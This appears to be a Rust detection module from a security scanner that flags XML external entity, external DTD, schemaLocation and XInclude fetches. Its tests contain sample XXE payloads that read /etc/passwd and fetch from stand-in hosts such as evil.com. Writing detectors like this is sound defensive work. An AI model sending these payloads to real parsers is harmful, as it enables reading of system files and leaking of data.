//! XML external entities: a DOCTYPE that declares an entity with a
//! SYSTEM or PUBLIC identifier (or a parameter entity); and other ways XML
//! makes a parser fetch a URL (`xsi:schemaLocation`, XInclude).

use haetae_model::Confidence::{High, Medium};
use haetae_model::Source;

use super::{Hit, Target, find};

pub fn check(t: &Target<'_>) -> Option<Hit> {
    let s = t.norm;
    if let Some(at) = external_reference(s) {
        return Some(Hit::new(2603, High, "XML: schema or XInclude fetched from a URL", at));
    }
    // `<!DOCTYPE data SYSTEM "http://…/x.dtd">`: an external DTD, fetched
    // before any entity is declared.
    // The model hands an XML body's DOCTYPE over as its own value.
    let doctype = find(s, b"<!doctype").or_else(|| (t.source == Source::Xml && t.key == "!DOCTYPE").then_some(0));
    if let Some(at) = doctype {
        let decl = &s[at..(at + 512).min(s.len())];
        let id = find(decl, b"system").or_else(|| find(decl, b"public"));
        // The W3C's own DTD URLs (XHTML doctypes) are identifiers browsers
        // and sane parsers never fetch.
        if let Some(id) = id
            && [&b"http:"[..], b"https:", b"ftp:", b"file:", b"gopher:", b"jar:"].iter().any(|u| find(&decl[id..], u).is_some())
            && find(&decl[id..], b"w3.org").is_none()
        {
            return Some(Hit::new(2601, High, "XXE: external DTD", at));
        }
    }
    let at = find(s, b"!entity").or_else(|| (t.source == Source::Xml && t.key == "!DOCTYPE").then(|| find(s, b"entity")).flatten())?;
    let decl = &s[at..];
    if find(decl, b"system").is_some() || find(decl, b"public").is_some() || find(decl, b"% ").is_some() {
        return Some(Hit::new(2601, High, "XXE: external entity declaration", at));
    }
    Some(Hit::new(2602, Medium, "XML entity declaration", at))
}

/// `xsi:schemaLocation="ns http://attacker/x"`, `<xi:include href="file:…">`.
fn external_reference(s: &[u8]) -> Option<usize> {
    memchr::memchr(b'<', s)?;
    for attr in [&b"schemalocation"[..], b"nonamespaceschemalocation", b"xi:include"] {
        if let Some(at) = find(s, attr) {
            let rest = &s[at + attr.len()..s.len().min(at + attr.len() + 512)];
            if [&b"http:"[..], b"https:", b"file:", b"ftp:", b"gopher:"].iter().any(|u| find(rest, u).is_some()) {
                // The standard namespace URIs are identifiers, not fetches;
                // a second URL in the pair is where the schema is loaded.
                let urls = memchr::memmem::find_iter(rest, b"://").count();
                if attr == b"xi:include" || urls >= 2 || find(rest, b"w3.org").is_none() {
                    return Some(at);
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use haetae_model::Confidence;

    fn conf(s: &str) -> Option<Confidence> {
        crate::testutil::confidence(check, s)
    }

    #[test]
    fn entities_and_external_references() {
        assert_eq!(conf("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"), Some(High));
        assert_eq!(conf("foo!ENTITY % bar SYSTEM"), Some(High));
        assert_eq!(conf("<?xml version=\"1.0\"?><!DOCTYPE data SYSTEM \"http://evil.com/x.dtd\"><data>1</data>"), Some(High));
        assert_eq!(conf("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\">"), None);
        assert_eq!(
            conf("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"),
            None
        );
        assert_eq!(
            conf(
                "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://a.b/ http://oast.example/x.xsd\">"
            ),
            Some(High)
        );
        assert_eq!(conf("<xi:include href=\"file:///etc/passwd\"/>"), Some(High));
        assert_eq!(conf("<p>The entity was created.</p>"), None);
        assert_eq!(conf("schemaLocation is an XML attribute"), None);
    }
}
